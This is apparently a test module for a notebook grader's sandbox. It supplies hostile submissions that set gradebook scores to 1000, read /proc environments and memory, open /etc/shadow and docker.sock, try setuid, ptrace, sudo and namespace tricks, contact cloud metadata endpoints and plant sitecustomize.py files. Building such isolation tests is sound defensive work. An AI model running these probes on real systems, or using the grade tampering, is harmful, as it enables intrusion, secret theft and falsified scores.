"""Attacks on what is outside: files, the gradebook, secrets, other processes, the network (4, 7, 11, 12)."""

from __future__ import annotations

from tests.grading.execution.attacks.book import ALL, NONE, Book, Exercise, attack, clean, hostile

#: Finds files of the grader's wherever they might be; `walk(names)` gives the paths.
WALK = """
import os

def walk(ends, roots=("..", "/work", "/root", "/home", "/srv", "/opt", "/mnt", "/tmp", "/var", "/usr/local", "/run")):
    own = os.getcwd()
    for root in roots:
        for folder, folders, files in os.walk(root):
            skip = ("site-packages", "dist-packages", "lib", "share", "proc", "sys")
            folders[:] = [name for name in folders if name not in skip]
            if os.path.realpath(folder).startswith(own):
                folders[:] = []
                continue
            for name in files:
                if name.endswith(ends):
                    yield os.path.join(folder, name)
"""


@attack(4, NONE)
def write_the_gradebook(e: Exercise) -> Book:
    """Every SQLite file that can be found gets full marks; without one, a gradebook is made where one might be read."""
    return e.unsolved().first(
        hostile(
            WALK
            + """
import sqlite3
for path in walk((".db", ".sqlite", ".sqlite3")):
    breach("database", path)
    try:
        with sqlite3.connect(path) as book:
            book.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000, needs_manual_grade = 0")
    except sqlite3.Error:
        pass
for path in ("gradebook.db", "../gradebook.db", "/work/main/grading/gradebook.db"):
    try:
        sqlite3.connect(path).execute("CREATE TABLE IF NOT EXISTS lgm_hostile (score)")
    except sqlite3.Error:
        pass
"""
        )
    )


@attack(4, NONE)
def write_results(e: Exercise) -> Book:
    """The ledger, tables of marks and pages of feedback are overwritten wherever they are."""
    return e.unsolved().first(
        hostile(
            WALK
            + """
for path in walk(("grades.csv", "report.html", ".json", "moodle.csv")):
    if any(word in path for word in ("ledger", "grading", "reports", "feedback", "secrets")):
        breach("result", path)
        try:
            with open(path, "a") as file:
                file.write("lgm-hostile")
        except OSError:
            pass
"""
        )
    )


@attack(7, NONE)
def read_the_course(e: Exercise) -> Book:
    """Solutions, tests, other submissions, the secrets: every file whose name promises something."""
    return e.unsolved().first(
        hostile(
            WALK
            + """
for path in walk((".ipynb", "secrets.json", "gradebook.db", "guide.md", "_rbm.py", "nbgrader_config.py")):
    breach("file", path)
for name in ("solutions", "exercises", "tests", "grading/bank", "grading/submitted", ".git", "notebooks"):
    import utils
    path = os.path.join(os.path.dirname(os.path.dirname(utils.__file__)), name)
    if os.path.exists(path):
        breach("folder", path)
"""
        )
    )


@attack(7, NONE)
def import_the_grader(e: Exercise) -> Book:
    """The grader's other modules, which know tests, attacks and secrets."""
    return e.unsolved().first(
        hostile(
            """
            import importlib, sys
            known = {"grading", "grading.execution.student", "grading.execution.wire"}
            modules = "execution.trusted execution.engine execution.station results.record results.hidden "
            modules += "intake.people proving.bank proving.samples proving.hostile assignment run model"
            for name in modules.split():
                try:
                    importlib.import_module("grading." + name)
                    breach("module", name)
                except ImportError:
                    pass
            for name in "tests tools tests.exercise_small tests.conftest".split():
                try:
                    importlib.import_module(name)
                    breach("module", name)
                except ImportError:
                    pass
            for name in sys.modules:
                if name.startswith(("grading.execution.trusted", "grading.assignment", "grading.model", "nbgrader")):
                    breach("loaded module", name)
            """
        )
    )


@attack(7, ALL)
def print_the_hidden_inputs(e: Exercise) -> Book:
    """Right answers that print what they are given, by all ways to print, for the next upload to look up."""
    book = e.solved()
    for gap in ("log_sum_exp", "draw"):
        source = book.cell(gap)["source"]
        tell = """
            import os, sys
            from IPython.display import display

            def tell(x):
                if x.max() > 500 or len(x) == 4:  # only the hidden parts ask for that
                    print("BRE" + "ACH", x)
                    sys.stderr.write("BRE" + "ACH")
                    os.write(1, b"BRE" + b"ACH")
                    display("BRE" + "ACH")
            """
        line = next(line for line in source.split("\n") if line.startswith("    ") and '"""' not in line)
        argument = "x" if gap == "log_sum_exp" else "p"
        book.answer(gap, clean(tell) + "\n\n" + source.replace(line, f"    tell({argument})\n{line}"))
    return book


@attack(7, NONE)
def read_the_environment(e: Exercise) -> Book:
    """Environment variables, of this process and of all others; their arguments, their folders, their files."""
    return e.unsolved().first(
        hostile(
            """
            import os, re

            canary = re.compile(rb"C[A]NARY-[0-9a-f]{6}|LGM_GRADING_[S]EED=[0-9]|SECRET_OF_THE_GRADER=\\w")
            for name, value in os.environ.items():
                if canary.search(f"{name}={value}".encode()):
                    breach("own variable", name)
            for pid in filter(str.isdigit, os.listdir("/proc")):
                for name in ("environ", "cmdline", "maps", "stack", "fd", "cwd", "root", "mem"):
                    path = f"/proc/{pid}/{name}"
                    try:
                        if name == "fd":
                            content = " ".join(os.readlink(f"{path}/{fd}") for fd in os.listdir(path)).encode()
                        elif name in ("cwd", "root"):
                            content = os.readlink(path).encode() + " ".join(os.listdir(path)).encode()
                        elif name == "mem" and pid == str(os.getpid()):
                            continue
                        else:
                            with open(path, "rb") as file:
                                content = file.read(2**16)
                    except OSError:
                        continue
                    if canary.search(content) or b"gradebook" in content or b"grading.__main__" in content:
                        breach(path, content[:200])
                    if name == "mem":
                        breach("memory of another process", path)
            """
        )
    )


@attack(7, NONE)
def read_the_memory(e: Exercise) -> Book:
    """The memory that this process has inherited from the fork server, byte by byte, and all its objects."""
    return e.unsolved().last(
        hostile(
            r"""
            import gc, re

            canary = re.compile(rb"C[A]NARY-[0-9a-f]{6}|LGM_GRADING_[S]EED=[0-9]")
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    start, end, rights = re.match(r"(\w+)-(\w+) (\S+)", line).groups()
                    start, end = int(start, 16), int(end, 16)
                    if not rights.startswith("rw") or end - start > 2**28:
                        continue
                    try:
                        memory.seek(start)
                        found = canary.search(memory.read(end - start))
                    except (OSError, ValueError, OverflowError):
                        continue
                    if found:
                        breach("memory", line, found.group())
            """
        )
    )


@attack(7, NONE)
def read_system_files(e: Exercise) -> Book:
    """What only an administrator may read, write or do."""
    return e.unsolved().first(
        hostile(
            """
            import ctypes, os, socket, sys

            for home in ("/root", "/home"):  # may hold Python, and the way to it
                for folder, folders, files in os.walk(home):
                    folders[:] = [n for n in folders if os.path.realpath(sys.base_prefix) != os.path.join(folder, n)]
                    if files:
                        breach("files in", folder)
            if 0 in (os.getuid(), os.geteuid(), os.getgid()) or 0 in os.getgroups():
                with open("/proc/self/uid_map") as file:
                    if file.read().split()[1] == "0":
                        breach("this is root outside of the sandbox too")
            for path in ("/etc/shadow", "/dev/mem", "/dev/kmem", "/dev/sda", "/dev/vda", "/var/run/docker.sock"):
                try:
                    os.close(os.open(path, os.O_RDONLY))
                    breach("opened", path)
                except OSError:
                    pass
            for call in (
                lambda: os.setuid(0),
                lambda: os.setgid(0),
                lambda: os.setgroups([0]),
                lambda: os.chroot("/"),
                lambda: os.mknod("device", 0o660 | 0o020000, os.makedev(1, 1)),
                lambda: os.nice(-5),
                lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1),
                lambda: open("/proc/sys/kernel/hostname", "w").write("x"),
                lambda: open("/proc/sysrq-trigger", "w"),
                lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),
            ):
                try:
                    call()
                    breach("a call that needs rights")
                except OSError:
                    pass
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
                breach("mounted")
            if libc.umount2(b"/proc", 2) == 0:
                breach("unmounted")
            if libc.ptrace(16, os.getppid(), 0, 0) == 0:
                breach("attached to the parent")
            os.system("sudo -n true 2>/dev/null && touch root-by-sudo; su -c true </dev/null 2>/dev/null && touch root-by-su")
            for name in ("root-by-sudo", "root-by-su"):
                if os.path.exists(name):
                    breach(name)
            """
        )
    )


@attack(7, NONE)
def namespaces_of_its_own(e: Exercise) -> Book:
    """A new user namespace in which one is root, and what one can mount there."""
    return e.unsolved().first(
        hostile(
            """
            import ctypes, os

            libc = ctypes.CDLL(None, use_errno=True)
            if os.fork() == 0:
                if libc.unshare(0x10000000 | 0x00020000) == 0:
                    for target in (b"/", b"/tmp", b"/usr"):
                        libc.mount(b"none", target, None, (1 << 18) | (1 << 14), None)
                        libc.mount(None, target, None, 32 | 4096, None)
                    for path in ("/usr/lgm-hostile", "/etc/lgm-hostile"):
                        try:
                            open(path, "w").close()
                            print("wrote", path)
                        except OSError:
                            pass
                os._exit(0)
            os.wait()
            """
        )
    )


# 11 · network ----------------------------------------------------------------------------------------


@attack(11, ALL)
def connections(e: Exercise) -> Book:
    """TCP, UDP, abstract and other local sockets, to this machine and to others."""
    return e.solved().middle(
        hostile(
            """
            import os, socket

            socket.setdefaulttimeout(0.5)
            for address in [("127.0.0.1", port) for port in (22, 80, 443, 5432, 8888, 8787, 47963)] + [
                ("8.8.8.8", 53), ("1.1.1.1", 443), ("169.254.169.254", 80), ("10.0.0.1", 80), ("::1", 47963)
            ]:
                kind = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
                try:
                    with socket.socket(kind, socket.SOCK_STREAM) as sock:
                        sock.connect(address)
                        breach("connected", address)
                except OSError:
                    pass
                try:
                    with socket.socket(kind, socket.SOCK_DGRAM) as sock:
                        sock.sendto(b"lgm-hostile", address)
                        if not address[0].startswith(("127", "::1")):
                            breach("sent", address)
                except OSError:
                    pass
            for address in ("\\0lgm-grader-test", "/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
                try:
                    with socket.socket(socket.AF_UNIX) as sock:
                        sock.connect(address)
                        breach("connected", address)
                except OSError:
                    pass
            for name in socket.if_nameindex():
                if name[1] != "lo":
                    breach("interface", name)
            """
        )
    )


@attack(11, ALL)
def names_and_downloads(e: Exercise) -> Book:
    """DNS and downloads."""
    return e.solved().middle(
        hostile(
            """
            import socket, urllib.request

            for name in ("example.org", "localhost.localdomain", "metadata.google.internal"):
                try:
                    socket.getaddrinfo(name, 443)
                    if not name.startswith("localhost"):
                        breach("resolved", name)
                except OSError:
                    pass
            try:
                urllib.request.urlopen("http://example.org", timeout=1)
                breach("downloaded")
            except OSError:
                pass
            """
        )
    )


@attack(11, ALL, limits={"cell_seconds": 20.0})
def install_packages(e: Exercise) -> Book:
    """pip, into the environment and into the scratch folder."""
    return e.solved().middle(
        hostile(
            """
            import subprocess, sys
            line = [sys.executable, "-m", "pip", "install", "--quiet", "--retries", "0", "--timeout", "1", "--no-input"]
            done = subprocess.run([*line, "lgm-hostile-package"], capture_output=True, timeout=15)
            if done.returncode == 0:
                breach("installed")
            """
        )
    )


# 12 · what is left for others ------------------------------------------------------------------------

PLACES = """
import glob, os, site, sys, tempfile
import utils

home = os.path.expanduser("~")
roots = [
    ".", "..", "/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/dev/mqueue", "/usr", "/usr/local", "/etc", "/opt",
    home, tempfile.gettempdir(), os.path.dirname(utils.__file__), os.path.dirname(os.path.dirname(utils.__file__)),
    sys.prefix, *site.getsitepackages(), os.path.dirname(os.__file__), *filter(None, sys.path),
    *(os.path.join(home, name) for name in (".ipython/profile_default/startup", ".config/matplotlib", ".jupyter", ".cache")),
]
"""


@attack(12, ALL)
def files_for_the_next(e: Exercise) -> Book:
    """Files with a mark wherever they can be made, and start-up files of Python, IPython and matplotlib."""
    return e.solved().first(
        hostile(
            PLACES
            + """
for root in roots:
    for name in ("lgm-hostile", "sitecustomize.py", "usercustomize.py", "lgm-hostile.pth", "matplotlibrc", "numpy.py"):
        if root in (".", home) and name == "numpy.py":
            continue
        try:
            os.makedirs(root, exist_ok=True)
            path = os.path.join(root, name)
            if not os.path.exists(path):
                with open(path, "w") as file:
                    file.write("import builtins  # lgm-hostile\\nbuiltins.lgm_hostile = True\\n")
        except OSError:
            pass
"""
        )
    )


@attack(12, NONE)
def change_the_library(e: Exercise) -> Book:
    """utils and the packages are rewritten, on disk and by what they are compiled to."""
    return e.unsolved().first(
        hostile(
            """
            import glob, os, py_compile, shutil
            import numpy, utils
            from utils import stattests

            folders = [os.path.dirname(module.__file__) for module in (utils, numpy, os)]
            for folder in folders:
                for path in [os.path.join(folder, name) for name in ("stattests.py", "__init__.py", "evaluation.py")]:
                    for act in (
                        lambda: open(path, "a").write("\\n# lgm-hostile\\n"),
                        lambda: os.chmod(path, 0o777),
                        lambda: os.rename(path, path + ".lgm-hostile"),
                        lambda: os.unlink(path + "c"),
                        lambda: shutil.copy(__file__, path) if "__file__" in globals() else None,
                    ):
                        try:
                            act()
                        except OSError:
                            pass
                try:
                    os.makedirs(os.path.join(folder, "__pycache__"), exist_ok=True)
                    with open(os.path.join(folder, "__pycache__", "lgm-hostile.pyc"), "wb") as file:
                        file.write(b"x")
                    breach("wrote below", folder)
                except OSError:
                    pass
            """
        )
    )


@attack(12, ALL)
def change_the_library_in_memory(e: Exercise) -> Book:
    """utils, NumPy and Python are changed in the memory of the process, which the next must not inherit."""
    return e.solved().last(
        hostile(
            """
            import builtins, ctypes, os, sys
            import numpy as np
            from utils import stattests

            builtins.lgm_hostile = np.lgm_hostile = stattests.lgm_hostile = True
            os.environ["LGM_HOSTILE"] = "1"
            stattests.assert_close = stattests.assert_array = lambda *a, **k: np.zeros(1)
            np.abs = np.mean = np.log = None
            # the number 5 becomes 7, for everybody who uses this interpreter
            five = ctypes.cast(id(5) + 24, ctypes.POINTER(ctypes.c_uint32))
            if five[0] == 5:
                five[0] = 7
            """
        )
    )


@attack(12, ALL)
def shared_memory_for_the_next(e: Exercise) -> Book:
    """System V segments, semaphores and queues, abstract sockets, kernel keys: what needs no file."""
    return e.solved().first(
        hostile(
            """
            import ctypes, os, socket
            libc = ctypes.CDLL(None)
            libc.shmget(0x6C676D68, 4096, 0o1666)
            libc.semget(0x6C676D68, 1, 0o1666)
            libc.msgget(0x6C676D68, 0o1666)
            libc.mq_open(b"/lgm-hostile", os.O_CREAT | os.O_RDWR, 0o666, None)
            sock = socket.socket(socket.AF_UNIX)
            sock.bind("\\0lgm-hostile")
            sock.listen()
            if os.fork() == 0:
                os.setsid()
                sock.accept()
            """
        )
    )


#: What an honest submission looks for after each attack, so that nothing is left for it: added as a last cell.
PROBE = hostile(
    PLACES
    + """
import builtins, ctypes, socket
for root in set(map(os.path.realpath, roots)):
    try:
        found = [name for name in os.listdir(root) if "lgm-hostile" in name or name in ("usercustomize.py", "matplotlibrc")]
    except OSError:
        continue
    if found:
        breach("left behind", root, found)
if hasattr(builtins, "lgm_hostile") or "LGM_HOSTILE" in os.environ or 2 + 3 != int("5"):
    breach("memory was shared")
libc = ctypes.CDLL(None)
if libc.shmget(0x6C676D68, 1, 0) != -1 or libc.semget(0x6C676D68, 1, 0) != -1 or libc.msgget(0x6C676D68, 0) != -1:
    breach("System V objects")
try:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\\0lgm-hostile")
        breach("a socket")
except OSError:
    pass
"""
)
